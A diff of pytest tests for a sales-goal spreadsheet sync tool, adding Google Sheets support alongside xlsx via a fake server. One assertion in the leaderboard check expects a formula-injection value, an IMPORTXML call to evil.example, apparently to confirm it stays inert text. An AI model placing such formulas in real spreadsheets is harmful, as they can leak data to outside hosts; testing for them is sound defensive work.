@@ -18,6 +18,7 @@ from sqlalchemy import create_engine, text
 
 from sheets.xlsx import XlsxBackend, create_workbook
 from tests.cycle.conftest import run_cli
+from tests.sheets_api.server import FakeSheetsServer
 
 REPS = [
     ["Email", "Name", "Team", "Title", "Active", "Monthly Signup Goal", "Yearly Signup Goal"],
@@ -73,11 +74,44 @@ def query(url: str, sql: str) -> list[Any]:
     return [tuple(row) for row in rows]
 
 
-def output(path: Path, tab: str) -> list[list[Any]]:
-    """An output tab as the backend reads it back (trailing blanks trimmed)."""
-    grid = XlsxBackend(path).read_tabs([tab])[tab]
-    assert grid is not None, f"tab {tab} was not written"
-    return grid
+class Spreadsheet:
+    """The crafted spreadsheet on one backend: put input tabs, read output tabs, count writes."""
+
+    def __init__(self, backend: str, tmp_path: Path, server: FakeSheetsServer) -> None:
+        self.backend, self.server, self.path = backend, server, tmp_path / "goals.xlsx"
+        if backend == "google":
+            server.create_spreadsheet("crafted-sheet", {})
+
+    def config(self) -> dict[str, Any]:
+        if self.backend == "xlsx":
+            return {"backend": "xlsx", "xlsx_path": str(self.path)}
+        return {"backend": "google", "spreadsheet_id": "crafted-sheet", "api_endpoint": self.server.url,
+                "retry": {"timeout_seconds": 5, "max_attempts": 2, "max_total_seconds": 10}}
+
+    def put(self, tabs: dict[str, list[list[Any]]]) -> None:
+        if self.backend == "xlsx":
+            create_workbook(self.path, tabs)
+            return
+        for title, grid in tabs.items():
+            if title not in self.server.tab_titles("crafted-sheet"):
+                self.server.add_tab("crafted-sheet", title)
+            self.server.set_values("crafted-sheet", title, grid)
+
+    def output(self, tab: str) -> list[list[Any]]:
+        """An output tab as read back (trailing blanks trimmed)."""
+        if self.backend == "xlsx":
+            grid = XlsxBackend(self.path).read_tabs([tab])[tab]
+        else:
+            grid = self.server.get_values("crafted-sheet", tab) if tab in self.server.tab_titles(
+                "crafted-sheet") else None
+        assert grid is not None, f"tab {tab} was not written"
+        return grid
+
+    def write_marker(self) -> object:
+        """Something that changes whenever the output is written."""
+        if self.backend == "xlsx":
+            return self.path.read_bytes()
+        return self.server.count("values.batchUpdate") + self.server.count("spreadsheets.batchUpdate")
 
 
 def by_rep(summary: list[list[Any]]) -> dict[str, dict[str, Any]]:
@@ -86,20 +120,24 @@ def by_rep(summary: list[list[Any]]) -> dict[str, dict[str, Any]]:
             for row in summary[1:] if len(row) > 1 and row[1]}
 
 
+@pytest.fixture(params=["xlsx", "google"])
+def sheet(request: pytest.FixtureRequest, tmp_path: Path, sheets_server: FakeSheetsServer) -> Spreadsheet:
+    return Spreadsheet(request.param, tmp_path, sheets_server)
+
+
 @pytest.fixture
-def setup(fresh_db_url: str, write_config, tmp_path: Path) -> tuple[Path, Path, str]:
-    config = write_config(fresh_db_url)
-    book = tmp_path / "goals.xlsx"
-    create_workbook(book, workbook())
-    return config, book, fresh_db_url
+def setup(fresh_db_url: str, write_config, sheet: Spreadsheet) -> tuple[Path, Spreadsheet, str]:
+    config = write_config(fresh_db_url, sheets=sheet.config())
+    sheet.put(workbook())
+    return config, sheet, fresh_db_url
 
 
-def test_first_cycle_stores_good_rows_and_reports_every_bad_cell(setup: tuple[Path, Path, str]) -> None:
+def test_first_cycle_stores_good_rows_and_reports_every_bad_cell(setup: tuple[Path, Spreadsheet, str]) -> None:
     config, book, url = setup
     result = run_cli("run", "--once", "--now", "2026-11-03T09:00", config=config)
     assert result.returncode == 3, result.stderr  # done, but some input was rejected
 
-    errors = output(book, "Sync Errors")
+    errors = book.output("Sync Errors")
     assert errors[0] == ["Tab", "Cell", "Email", "Value", "Problem"]
     reported = {(row[0], row[1], row[2], str(row[3])) for row in errors[1:]}
     assert reported == {
@@ -143,7 +181,7 @@ def test_first_cycle_stores_good_rows_and_reports_every_bad_cell(setup: tuple[Pa
     ]
     assert query(url, "SELECT count(*) FROM sales_reps WHERE email = 'zed@example.com'") == [(0,)]
 
-    summary = output(book, "Summary")
+    summary = book.output("Summary")
     assert summary[0][:25] == [
         "Rep", "Email", "Team", "Signups", "Signup Goal", "Signup %", "Revenue", "Revenue Goal", "Revenue %",
         "Expected %", "Pace", "Bonus Tier", "Bonus", "Goal Status", "Days Left", "Needed/Day", "YTD Signups",
@@ -169,22 +207,22 @@ def test_first_cycle_stores_good_rows_and_reports_every_bad_cell(setup: tuple[Pa
     assert side["Rows read"] == 15
     assert str(side["Problems"]).startswith("6")
 
-    leaderboard = output(book, "Leaderboard")
+    leaderboard = book.output("Leaderboard")
     assert leaderboard[0][:3] == ["Rank", "Rep", "Team"]
     assert [row[0] for row in leaderboard[1:]] == [1, 2, 3, 4]
     assert leaderboard[1][1] == '=IMPORTXML("http://evil.example/x","//a")'  # 100 % signups leads
 
 
-def test_unchanged_sheet_writes_nothing_and_changes_no_row(setup: tuple[Path, Path, str]) -> None:
+def test_unchanged_sheet_writes_nothing_and_changes_no_row(setup: tuple[Path, Spreadsheet, str]) -> None:
     config, book, url = setup
     assert run_cli("run", "--once", "--now", "2026-11-03T09:00", config=config).returncode == 3
-    before_bytes = book.read_bytes()
+    before_bytes = book.write_marker()
     before = query(url, "SELECT max(updated_at), count(*) FROM rep_monthly_goals")
     reps_before = query(url, "SELECT max(updated_at) FROM sales_reps")
 
     again = run_cli("run", "--once", "--now", "2026-11-03T09:05", config=config)
     assert again.returncode == 3
-    assert book.read_bytes() == before_bytes, "the workbook was rewritten although nothing changed"
+    assert book.write_marker() == before_bytes, "the output was rewritten although nothing changed"
     assert query(url, "SELECT max(updated_at), count(*) FROM rep_monthly_goals") == before
     assert query(url, "SELECT max(updated_at) FROM sales_reps") == reps_before
     log = query(url, "SELECT status, api_writes, rows_upserted FROM sheets_sync_log ORDER BY id")
@@ -192,14 +230,14 @@ def test_unchanged_sheet_writes_nothing_and_changes_no_row(setup: tuple[Path, Pa
     assert log[1] == ("partial", 0, 0)
 
 
-def test_blank_keeps_stored_value_and_late_goal_is_overdue(setup: tuple[Path, Path, str]) -> None:
+def test_blank_keeps_stored_value_and_late_goal_is_overdue(setup: tuple[Path, Spreadsheet, str]) -> None:
     config, book, url = setup
     assert run_cli("run", "--once", "--now", "2026-11-03T09:00", config=config).returncode == 3
 
     tabs = workbook()
     tabs["Actuals"][1] = ["alice@example.com", 2026, 11, 15, None]  # revenue blanked: keep 24000.50
     del tabs["Monthly Goals"][4]  # carol's duplicate removed: her goal is now set, after the deadline
-    create_workbook(book, tabs)
+    book.put(tabs)
     result = run_cli("run", "--once", "--now", "2026-11-09T10:00", config=config)
     assert result.returncode == 3, result.stderr  # bob's bad cells are still there
 
@@ -210,44 +248,44 @@ def test_blank_keeps_stored_value_and_late_goal_is_overdue(setup: tuple[Path, Pa
     assert (carol["signup_goal"], carol["revenue_goal"]) == (10, Decimal("5000.00"))
     assert carol["goal_set_at"] == datetime(2026, 11, 9, 10, tzinfo=UTC)
     assert carol["set_by_deadline"] is False
-    reps = by_rep(output(book, "Summary"))
+    reps = by_rep(book.output("Summary"))
     assert reps["carol@example.com"]["Goal Status"] == "overdue"
     assert reps["alice@example.com"]["Goal Status"] == "complete"
     assert reps["alice@example.com"]["Bonus Tier"] == "Gold"
-    errors = output(book, "Sync Errors")
+    errors = book.output("Sync Errors")
     assert {row[1] for row in errors[1:]} == {"Monthly Goals!D3", "Monthly Goals!A5", "Actuals!D3",
                                               "Actuals!D5"}
 
 
 def test_lock_after_deadline_refuses_edits_and_keeps_the_goal(fresh_db_url: str, write_config,
-                                                             tmp_path: Path) -> None:
-    config = write_config(fresh_db_url, goals={"lock_after_deadline": True})
-    book = tmp_path / "goals.xlsx"
-    create_workbook(book, workbook())
+                                                             sheet: Spreadsheet) -> None:
+    config = write_config(fresh_db_url, goals={"lock_after_deadline": True}, sheets=sheet.config())
+    book = sheet
+    book.put(workbook())
     assert run_cli("run", "--once", "--now", "2026-11-03T09:00", config=config).returncode == 3
 
     tabs = workbook()
     tabs["Monthly Goals"][1] = ["alice@example.com", 2026, 11, 9, 30000, 3]
-    create_workbook(book, tabs)
+    book.put(tabs)
     assert run_cli("run", "--once", "--now", "2026-11-08T09:00", config=config).returncode == 3
     assert monthly_rows(fresh_db_url)["alice@example.com"]["signup_goal"] == 15
-    locked = [row for row in output(book, "Sync Errors")[1:] if row[1] == "Monthly Goals!D2"]
+    locked = [row for row in book.output("Sync Errors")[1:] if row[1] == "Monthly Goals!D2"]
     assert len(locked) == 1 and "locked" in locked[0][4]
 
 
-def test_dry_run_writes_nothing_anywhere(setup: tuple[Path, Path, str]) -> None:
+def test_dry_run_writes_nothing_anywhere(setup: tuple[Path, Spreadsheet, str]) -> None:
     config, book, url = setup
-    before = book.read_bytes()
+    before = book.write_marker()
     result = run_cli("run", "--once", "--dry-run", "--now", "2026-11-03T09:00", config=config)
     assert result.returncode == 3
     assert "Summary: would be rewritten" in result.stdout
     assert "nothing was written" in result.stdout
-    assert book.read_bytes() == before
+    assert book.write_marker() == before
     assert query(url, "SELECT count(*) FROM sales_reps") == [(0,)]
     assert query(url, "SELECT count(*) FROM sheets_sync_log") == [(0,)]
 
 
-def test_second_cycle_while_one_holds_the_lock_exits_75(setup: tuple[Path, Path, str]) -> None:
+def test_second_cycle_while_one_holds_the_lock_exits_75(setup: tuple[Path, Spreadsheet, str]) -> None:
     import psycopg
 
     from models.store import CYCLE_LOCK_KEY
